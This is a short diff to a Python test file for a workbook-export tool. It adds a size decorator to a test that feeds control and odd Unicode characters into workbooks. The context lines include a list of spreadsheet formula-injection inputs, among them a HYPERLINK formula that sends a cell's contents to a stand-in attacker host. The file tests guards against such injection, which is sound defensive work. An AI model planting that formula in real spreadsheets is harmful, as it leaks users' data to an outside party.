@@ -19,6 +19,7 @@ from allocator.intake.write import write_case
 from allocator.reasons.answer import solve
 from allocator.report.plan_workbook import write_workbook
 from tests.make import case, school, sip
+from tests.sizes import long
 
 ODD = [
     '=HYPERLINK("https://evil.example/?x="&B2,"see note")',
@@ -63,6 +64,7 @@ def test_a_guard_comes_off_as_it_went_on(text: str) -> None:
     assert guarded(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
 
 
+@long(but=("\x0b", "\x00"))
 @pytest.mark.parametrize("odd", ["\x0b", "\x00", "\x1b[31m", "\ufffe", "\x85", "\u202e"])
 def test_no_character_breaks_a_workbook(tmp_path: Path, odd: str) -> None:
     """Of a case from before such characters were refused."""
